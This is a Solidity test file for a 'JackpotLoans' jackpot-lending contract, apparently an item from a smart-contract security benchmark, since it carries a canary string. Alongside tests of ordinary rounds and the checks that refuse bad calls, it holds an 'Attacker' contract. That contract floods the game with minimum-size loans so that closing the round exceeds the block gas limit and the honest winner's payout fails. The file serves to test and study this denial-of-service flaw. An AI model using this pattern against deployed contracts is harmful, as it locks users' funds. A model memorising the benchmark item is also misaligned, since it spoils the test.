pragma solidity 0.4.26;

import "./JackpotLoans.sol";

// assay-canary-27c8efcb-77dc-4f13-a01c-4dff14e39703

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes reason) external;
}

contract Sums {
    using SafeMath for uint;

    function add(uint a, uint b) public pure returns (uint) {
        return a.add(b);
    }

    function sub(uint a, uint b) public pure returns (uint) {
        return a.sub(b);
    }

    function percent(uint a, uint share) public pure returns (uint) {
        return a.percent(share);
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant MANY = address(0x3A27);
    address constant LAST = address(0x1A57);
    uint constant EARLIER = 100;
    // what a block could hold in the spring of 2016
    uint constant BLOCK_GAS = 4712388;

    JackpotLoans internal game;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1461000000);
        vm.deal(address(this), 100 ether);
        game = (new JackpotLoans).value(100 ether)();
        vm.deal(MANY, 5000 ether);
        for (uint i = 0; i < EARLIER; i++) {
            vm.prank(MANY);
            game.lend.value(50 ether)();
        }
        vm.deal(LAST, 200 ether);
        mallory = new Attacker(game);
        vm.deal(address(mallory), 5 ether);
    }

    function test_Regular() public {
        require(game.jackpot() == 100 ether + EARLIER * 10 ether && game.round() == 0);
        uint left = game.openLoans();
        require(left > 0 && left < EARLIER);
        require(!address(game).call(abi.encodeWithSignature("closeRound()")));

        vm.prank(LAST);
        game.lend.value(160 ether)();
        require(game.openLoans() == left - 1 && game.lastLender() == LAST);
        require(!address(game).call.value(1 finney)(abi.encodeWithSignature("lend()")));

        uint jackpot = game.jackpot();
        vm.warp(1461000000 + 12 hours);
        require(!address(game).call.value(1 ether)(abi.encodeWithSignature("lend()")));
        game.closeRound.gas(BLOCK_GAS)();
        require(game.balances(LAST) == jackpot && game.lastLender() == 0 && game.openLoans() == 0);
        require(game.jackpot() == 0 && game.round() == 1);
        vm.prank(LAST);
        game.withdraw();
        require(LAST.balance == 40 ether + jackpot);

        // the next round begins with what is in the pool
        uint rest = game.pool();
        vm.prank(LAST);
        game.lend.value(10 ether)();
        require(game.openLoans() == 0 || game.balances(LAST) == 0);
        require(game.pool() == rest + 8 ether || game.balances(LAST) == 11 ether);
        require(game.jackpot() == 2 ether);

        address owner = game.owner();
        vm.deal(owner, owner.balance + 1 ether);
        vm.prank(owner);
        game.fundJackpot.value(1 ether)();
        require(game.jackpot() == 3 ether);
        game.payBack(1);
        vm.prank(owner);
        game.transferOwnership(LAST);
        require(game.owner() == LAST);
    }

    function refuses(address who, bytes why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangers() public {
        refuses(LAST, "not the owner");
        game.fundJackpot.value(1 ether)();
        refuses(LAST, "not the owner");
        game.transferOwnership(LAST);
        refuses(address(this), "no new owner");
        game.transferOwnership(address(0));
    }

    function test_RefusesEmptyWithdrawals() public {
        refuses(LAST, "nothing to withdraw");
        game.withdraw();
    }

    function test_RefusesRounds() public {
        refuses(LAST, "loan too small");
        game.lend.value(10 finney - 1)();
        vm.prank(LAST);
        game.lend.value(10 finney)();
        refuses(LAST, "round is not over");
        game.closeRound();
        vm.warp(1461000000 + 12 hours);
        refuses(LAST, "round is over");
        game.lend.value(1 ether)();
    }

    // somebody lends, twelve hours pass, and the lender gets the jackpot in a block like any other
    function honestWinner() public {
        vm.prank(LAST);
        game.lend.value(1 ether)();
        vm.warp(game.lastLoanAt() + 12 hours);
        vm.prank(LAST);
        game.closeRound.gas(BLOCK_GAS)();
        vm.prank(LAST);
        game.withdraw();
    }

    function test_RefusesSums() public {
        Sums sums = new Sums();
        require(sums.percent(0, 3) == 0);
        vm.expectRevert("sum too large");
        sums.add(uint(-1), 1);
        vm.expectRevert("difference below zero");
        sums.sub(1, 2);
        vm.expectRevert("product too large");
        sums.percent(uint(-1), 3);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(!address(this).call(abi.encodeWithSignature("honestWinner()")));
    }

    function target() public view returns (address) {
        return address(game);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Lends the smallest amount again and again.
contract Attacker {
    JackpotLoans internal game;

    constructor(JackpotLoans game_) public {
        game = game_;
    }

    function () external payable {}

    function run() external {
        while (gasleft() > 400000 && address(this).balance >= 10 finney) game.lend.value(10 finney)();
    }
}
